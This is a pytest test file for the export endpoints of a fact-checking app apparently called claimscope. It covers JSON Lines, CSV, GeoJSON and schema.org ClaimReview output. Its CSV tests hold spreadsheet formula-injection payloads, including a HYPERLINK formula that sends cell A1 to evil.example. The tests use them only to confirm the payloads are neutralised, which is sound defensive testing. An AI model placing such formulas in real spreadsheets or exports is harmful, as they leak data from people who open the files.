"""The exports, as the tools that open them would read them: JSON Lines, spreadsheet-safe CSV,
RFC 7946 GeoJSON, and schema.org ClaimReview checked against schema.org's own vocabulary."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from claimscope import batch, query
from claimscope.api.exports import ATTRIBUTION_COLUMNS, CLAIM_COLUMNS
from claimscope.api.tabular import FORMULA_START, csv_lines
from claimscope.store import Store
from claimscope.web.app import create_app
from tests.conftest import FIXTURES

SCHEMA_ORG = json.loads((FIXTURES / "schemaorg-claimreview.json").read_text(encoding="utf-8"))
DATATYPES = {"Text", "URL", "Date", "DateTime"}
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


@pytest.fixture(scope="module")
def client(sample_app: FastAPI) -> Iterator[TestClient]:
    with TestClient(sample_app) as c:
        yield c


def download(client: TestClient, name: str, media_type: str, **params: str) -> bytes:
    response = client.get(f"/api/export/{name}", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].split(";")[0] == media_type
    assert response.headers["content-disposition"] == f'attachment; filename="claimscope-{name}"'
    return response.content


def jsonl(content: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in content.decode("utf-8").splitlines()]


def spreadsheet(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8 without guessing
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def counts(client: TestClient) -> tuple[int, int]:
    docs = client.get("/api/documents", params={"limit": 200}).json()["items"]
    attributions = sum(d["attributions"] for d in docs)
    claims = sum(len(client.get(f"/api/documents/{d['id']}").json()["claims"]) for d in docs)
    return attributions, claims


@pytest.mark.parametrize(("what", "columns"), [("attributions", ATTRIBUTION_COLUMNS), ("claims", CLAIM_COLUMNS)])
def test_jsonl_and_csv_hold_every_row_alike(client: TestClient, what: str, columns: list[str]) -> None:
    lines = jsonl(download(client, f"{what}.jsonl", "application/x-ndjson"))
    rows = spreadsheet(download(client, f"{what}.csv", "text/csv"))
    attributions, claims = counts(client)
    assert len(lines) == {"attributions": attributions, "claims": claims}[what]
    assert rows[0] == columns and list(lines[0]) == columns
    assert len(rows) == len(lines) + 1
    ids = [line[columns[0]] for line in lines]
    assert ids == sorted(set(ids))
    for line, row in zip(lines, rows[1:], strict=True):
        assert row[0] == str(line[columns[0]]) and row[1] == line["document"]
        assert line["link"].startswith("http://testserver/articles/")
    anchor = "a" if what == "attributions" else "c"
    assert lines[0]["link"] == f"http://testserver/articles/{lines[0]['document']}#{anchor}-{ids[0]}"


@pytest.mark.parametrize(
    "params",
    [{"about": "Pokrovsk", "type": "control"}, {"type": "meeting", "status": "corroborated"}, {"contested": "true"}],
)
def test_claims_exported_with_the_board_s_filters(client: TestClient, params: dict[str, str]) -> None:
    """The board's filters keep the claims of the propositions the board shows with them (they
    were ignored: every claim of the store came back)."""
    lines = jsonl(download(client, "claims.jsonl", "application/x-ndjson", **params))
    rows = spreadsheet(download(client, "claims.csv", "text/csv", **params))
    board = client.get("/api/claims", params={**params, "limit": 200}).json()
    assert board["total"] <= 200 and lines and len(rows) == len(lines) + 1
    assert {line["pid"] for line in lines} == {p["pid"] for p in board["items"]}
    assert len(lines) == sum(p["stances"] for p in board["items"])
    assert len(lines) < len(jsonl(download(client, "claims.jsonl", "application/x-ndjson")))


def test_claims_carry_their_proposition_and_verdict(client: TestClient, sample_store: Store) -> None:
    lines = jsonl(download(client, "claims.jsonl", "application/x-ndjson"))
    pid = query.pid("control|Pokrovsk|Russia")
    stances = query.proposition_summary(sample_store, pid)
    assert stances is not None and stances.stances > 40
    pokrovsk = [c for c in lines if c["pid"] == pid]
    assert len(pokrovsk) == stances.stances and {c["status"] for c in pokrovsk} == {"contested"}
    assert {c["stance"] for c in pokrovsk} == {"asserts", "denies", "partial", "hedged"}
    assert all(c["key"] == "control|Pokrovsk|Russia" and c["place"] == "Pokrovsk" and c["latitude"] for c in pokrovsk)
    statements = [c for c in lines if c["type"] == "statement"]
    assert statements and all(c["pid"] is None and c["status"] is None for c in statements)
    rows = {r[0]: r for r in spreadsheet(download(client, "claims.csv", "text/csv"))[1:]}
    row = rows[str(pokrovsk[0]["claim_id"])]
    assert row[CLAIM_COLUMNS.index("args")] == "place: Pokrovsk; actor: Russia; country: UA"


def test_each_claim_counts_towards_its_own_proposition(client: TestClient) -> None:
    lines = jsonl(download(client, "claims.jsonl", "application/x-ndjson"))
    keys = {c["pid"]: c["key"] for c in lines if c["type"] == "control" and c["pid"]}
    board = client.get("/api/claims", params={"type": "control", "limit": 200}).json()["items"]
    assert keys == {p["pid"]: p["key"] for p in board if p["pid"] in keys}
    assert all(keys[c["pid"]] == c["key"] for c in lines if c["type"] == "control" and c["pid"])


def test_csv_cells_never_start_a_formula(client: TestClient) -> None:
    for name in ("attributions.csv", "claims.csv"):
        for row in spreadsheet(download(client, name, "text/csv")):
            assert not any(cell.startswith(FORMULA_START) for cell in row), row


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("ok = fine", "ok = fine"),
        ("'quoted", "'quoted"),
        (-1.5, "-1.5"),  # a number stays a number
        (None, ""),
        (["a", "=b"], "a; =b"),  # joined first: the cell starts with "a"
    ],
)
def test_csv_neutralises_formulas(value: object, cell: str) -> None:
    content = b"".join(csv_lines(["value"], [{"value": value}]))
    assert spreadsheet(content) == [["value"], [cell]]


def test_csv_neutralises_a_hostile_stored_title(tmp_path: Path, db_url: str) -> None:
    """Stored from a JSONL record whose title is a formula: the export keeps it as text."""
    feed = tmp_path / "feed.jsonl"
    title = '=HYPERLINK("http://evil.example/?"&A1,"Pokrovsk")'
    record = {"title": title, "text": "Le Kremlin a affirmé mardi que Pokrovsk était tombée, selon Moscou."}
    feed.write_text(json.dumps(record), encoding="utf-8")
    store = Store(db_url)
    assert batch.ingest([feed], store).stored == 1
    with TestClient(create_app(store)) as client:
        for name, columns in (("attributions.csv", ATTRIBUTION_COLUMNS), ("claims.csv", CLAIM_COLUMNS)):
            rows = spreadsheet(download(client, name, "text/csv"))
            assert len(rows) > 1
            assert {r[columns.index("title")] for r in rows[1:]} == {"'" + title}
        (line,) = jsonl(download(client, "attributions.jsonl", "application/x-ndjson"))[:1]
        assert line["title"] == title  # JSON keeps the data as it is


def test_map_is_rfc7946_geojson(client: TestClient) -> None:
    collection = json.loads(download(client, "map.geojson", "application/geo+json"))
    assert collection["type"] == "FeatureCollection" and collection["features"]
    assert "crs" not in collection  # RFC 7946: WGS 84 always, no crs member
    for feature in collection["features"]:
        assert feature["type"] == "Feature" and isinstance(feature["properties"], dict)
        geometry = feature["geometry"]
        assert geometry["type"] == "Point" and len(geometry["coordinates"]) == 2
        lon, lat = geometry["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert feature["properties"]["url"].startswith("http://testserver/claims/")
    pokrovsk = next(f for f in collection["features"] if f["properties"]["place"] == "Pokrovsk")
    assert pokrovsk["geometry"]["coordinates"] == pytest.approx([37.177, 48.280], abs=0.01)  # [lon, lat]
    before = json.loads(download(client, "map.geojson", "application/geo+json", date="2025-11-20"))
    assert before["properties"]["as_of"] == "2025-11-20" and len(before["features"]) <= len(collection["features"])
    assert client.get("/api/export/map.geojson", params={"date": "not-a-day"}).status_code == 422


def check_schema_org(node: Any, where: str = "$") -> None:
    """Every object typed, every property one schema.org defines for its type (or an ancestor),
    every value within the property's range."""
    if isinstance(node, list):
        for i, item in enumerate(node):
            check_schema_org(item, f"{where}[{i}]")
        return
    assert isinstance(node, dict), where
    type_ = node["@type"]
    assert type_ in SCHEMA_ORG["types"], f"{where}: @type {type_} not checked"
    allowed = set(SCHEMA_ORG["types"][type_]["properties"])
    for name, value in node.items():
        if name.startswith("@"):
            continue
        assert name in allowed, f"{where}: {type_} has no property {name!r} in schema.org"
        ranges = set(SCHEMA_ORG["ranges"][name])
        for item in value if isinstance(value, list) else [value]:
            if isinstance(item, dict):
                ancestors = set(SCHEMA_ORG["types"][item["@type"]]["ancestors"])
                assert ancestors & ranges, f"{where}.{name}: {item['@type']} is not one of {sorted(ranges)}"
                check_schema_org(item, f"{where}.{name}")
            else:
                assert isinstance(item, str) and ranges & DATATYPES, f"{where}.{name}: text where {ranges} is expected"
                if ranges <= {"Date", "DateTime"}:
                    assert ISO_DATE.match(item), f"{where}.{name}: {item!r} is not an ISO date"
                if ranges == {"URL"}:
                    assert item.startswith(("http://", "https://")), f"{where}.{name}: {item!r}"


def test_flags_are_schema_org_claim_reviews(client: TestClient) -> None:
    reviews = json.loads(download(client, "flags.jsonld", "application/ld+json"))
    assert len(reviews) == client.get("/api/flags").json()["total"] > 0
    for review in reviews:
        assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
        check_schema_org(review)
        # what fact-check readers (Google's ClaimReview guidelines) require besides the shape
        assert review["claimReviewed"] and review["url"] and review["datePublished"]
        assert review["reviewRating"]["alternateName"] and review["reviewRating"]["ratingExplanation"]
        assert review["author"] == {"@type": "Organization", "name": "claimscope", "url": "http://testserver/"}
        assert review["itemReviewed"]["appearance"]["url"]
    kb = json.loads(download(client, "flags.jsonld", "application/ld+json", kind="kb-conflict"))
    assert {r["reviewRating"]["alternateName"] for r in kb} == {"Conflicts with the knowledge base"}
    (review,) = (r for r in kb if "Jared Kushner" in r["reviewRating"]["ratingExplanation"])  # and Dmitriev's
    assert "gendre de Poutine" in review["claimReviewed"]
    assert review["reviewRating"]["alternateName"] == "Conflicts with the knowledge base"
    assert "Jared Kushner is son-in-law of Donald Trump" in review["reviewRating"]["ratingExplanation"]
    assert review["citation"][0]["text"] == "Jared Kushner is son-in-law of Donald Trump"
    assert any(c.get("url", "").startswith("http://testserver/articles/") for c in review["citation"][1:])
    assert re.fullmatch(r"http://testserver/articles/2c5aa0e4e61434052343#f-[0-9a-f]{16}", review["url"])
    assert client.get("/api/export/flags.jsonld", params={"kind": "nope"}).status_code == 422


def test_the_shape_check_refuses_what_schema_org_does_not_define() -> None:
    check_schema_org({"@type": "Rating", "alternateName": "x", "ratingExplanation": "y"})
    for wrong in (
        {"@type": "ClaimReview", "verdict": "false"},  # no such property
        {"@type": "ClaimReview", "reviewRating": {"@type": "Person", "name": "x"}},  # out of range
        {"@type": "ClaimReview", "datePublished": "yesterday"},
        {"@type": "ClaimReview", "url": "/relative"},
    ):
        with pytest.raises(AssertionError):
            check_schema_org(wrong)
